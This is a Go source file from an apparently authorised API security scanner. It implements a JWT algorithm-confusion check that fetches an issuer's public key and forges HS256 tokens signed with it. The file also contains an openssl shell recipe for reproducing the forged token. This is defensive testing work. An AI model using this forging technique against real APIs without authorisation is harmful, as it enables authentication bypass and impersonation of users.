package authn

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"

	"github.com/golang-jwt/jwt/v5"

	"github.com/rampartsec/rampart/internal/attack/checks/probe"
	"github.com/rampartsec/rampart/internal/attack/core"
)

// JWTConfusionCheck signs the profile's claims with HS256 using the
// issuer's public key as the HMAC secret (CVE-2016-10555 and kin): a
// verifier that takes the algorithm from the token and "the key" from its
// configuration checks an HMAC with a key everyone has.
type JWTConfusionCheck struct{}

// ID implements core.Check.
func (JWTConfusionCheck) ID() string { return "authn.jwt_confusion" }

// Stage implements core.Check.
func (JWTConfusionCheck) Stage() core.Stage { return core.StageAuthn }

// Title implements core.Check.
func (JWTConfusionCheck) Title() string { return "JWT algorithm confusion (RS/ES → HS256)" }

// PublicKeyKey is the Scan value with a PEM public key or certificate of
// the token issuer, for APIs that do not publish a key set.
const PublicKeyKey = "jwt.public_key_pem"

// jwksPaths are where issuers publish their key set.
var jwksPaths = []string{"/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration"}

// maxConfusionTokens bounds the forged tokens sent.
const maxConfusionTokens = 6

// Plan implements core.Check.
func (c JWTConfusionCheck) Plan(s *core.Scan) []core.PlannedRequest {
	return []core.PlannedRequest{referencePlan(s),
		{Endpoint: "*", Class: "read the issuer's key set (" + fmt.Sprint(jwksPaths) + ", and an openid-configuration's jwks_uri in scope) unless jwt.public_key_pem is given", Count: len(jwksPaths) + 1},
		{Endpoint: "reference endpoint", Class: "user1's claims HS256-signed with the public key's PEM forms (only for RS/PS/ES/EdDSA tokens)", Count: maxConfusionTokens}}
}

// Run implements core.Check.
func (c JWTConfusionCheck) Run(ctx context.Context, s *core.Scan) error {
	r, err := jwtReference(ctx, s, c.ID())
	if err != nil {
		return err
	}
	if !r.tok.asymmetricAlg() {
		reason := fmt.Sprintf("%s's token is %s: algorithm confusion needs a token signed with a key pair", r.cred.profile, r.tok.alg())
		s.Cover(r.op.Key(), c.ID(), core.Skipped, reason)
		return core.Skip(reason)
	}
	keys, source, err := c.findKeys(ctx, s)
	if probe.Stopped(ctx, err) {
		s.Cover(r.op.Key(), c.ID(), core.NotReached, err.Error())
		return err
	}
	if len(keys) == 0 {
		reason := "no public key: none published at " + fmt.Sprint(jwksPaths) + " and jwt.public_key_pem not given"
		s.Cover(r.op.Key(), c.ID(), core.Skipped, reason)
		return core.Skip(reason)
	}
	kid, _ := r.tok.header["kid"].(string)
	header := r.tok.withHeader(map[string]any{"alg": "HS256"})
	hs := encodeSegment(header)
	sent := 0
	for _, k := range orderByKid(keys, kid) {
		for i, form := range k.forms {
			if sent == maxConfusionTokens {
				break
			}
			sent++
			sig, _ := jwt.SigningMethodHS256.Sign(hs+"."+r.tok.payloadSeg, form) // HMAC takes any []byte key
			resp, err := r.send(ctx, s, c.ID(), hs+"."+r.tok.payloadSeg+"."+base64.RawURLEncoding.EncodeToString(sig))
			if probe.Stopped(ctx, err) {
				s.Cover(r.op.Key(), c.ID(), core.NotReached, err.Error())
				return err
			}
			if err != nil || !r.accepted(resp) {
				continue
			}
			s.CoverAs(r.op.Key(), c.ID(), core.Tested, "", r.cred.profile)
			raw, _ := json.Marshal(header)
			s.Report(r.finding(c.ID(), forged{
				title:    "JWT algorithm confusion: HS256 signed with the public key accepted",
				cwe:      347,
				severity: core.SeverityCritical,
				description: fmt.Sprintf("The API issues %s tokens but accepted %s's claims signed with HS256, the HMAC key being the issuer's public key "+
					"(%s, from %s). The public key is public: anyone can sign any claims.", r.tok.alg(), r.cred.profile, k.label[i], source),
				setup: b64url + "\n# public.pem: the issuer's public key in the form above (from " + source + ")\n" +
					`H="$(` + printfJSON(string(raw)) + ` | b64url)"; P="` + tokenPart(r.cred.profile, "2") + `"` + "\n" +
					`RAMPART_SECRET="$H.$P.$(printf '%s' "$H.$P" | openssl dgst -sha256 -mac HMAC -macopt hexkey:$(xxd -p public.pem | tr -d '\n') -binary | b64url)"`,
				resp: resp,
				note: "forged token: header " + string(raw) + ", the real claims, HMAC-SHA256 keyed with the public key (" + k.label[i] + ")",
			}))
			return nil
		}
	}
	s.CoverAs(r.op.Key(), c.ID(), core.Tested, fmt.Sprintf("%d forged tokens refused", sent), r.cred.profile)
	return nil
}

func orderByKid(keys []publicKey, kid string) []publicKey {
	if kid == "" {
		return keys
	}
	out := make([]publicKey, 0, len(keys))
	for _, k := range keys {
		if k.kid == kid {
			out = append(out, k)
		}
	}
	for _, k := range keys {
		if k.kid != kid {
			out = append(out, k)
		}
	}
	return out
}

// findKeys returns the issuer's public keys and where they came from.
func (c JWTConfusionCheck) findKeys(ctx context.Context, s *core.Scan) ([]publicKey, string, error) {
	var given []byte
	switch v := s.Get(PublicKeyKey).(type) {
	case string:
		given = []byte(v)
	case []byte:
		given = v
	}
	if given != nil {
		// An unreadable key given by the user means no key, not a reason
		// to go and look for another one.
		k, _ := keysFromPEM(given)
		return k, PublicKeyKey, nil
	}
	for _, p := range jwksPaths {
		resp, err := s.Do(ctx, core.Request{Method: "GET", Path: p, Check: c.ID()})
		if probe.Stopped(ctx, err) {
			return nil, "", err
		}
		if err != nil || resp.Status != http.StatusOK {
			continue
		}
		if keys, err := keysFromJWKS(resp.Body); err == nil {
			return keys, "GET " + p, nil
		}
		var oidc struct {
			JWKSURI string `json:"jwks_uri"`
		}
		if json.Unmarshal(resp.Body, &oidc) == nil && oidc.JWKSURI != "" {
			resp, err := s.Do(ctx, core.Request{Method: "GET", URL: oidc.JWKSURI, Check: c.ID()})
			if probe.Stopped(ctx, err) {
				return nil, "", err
			}
			if err == nil && resp.Status == http.StatusOK {
				if keys, err := keysFromJWKS(resp.Body); err == nil {
					return keys, "GET " + oidc.JWKSURI, nil
				}
			}
		}
	}
	return nil, "", nil
}
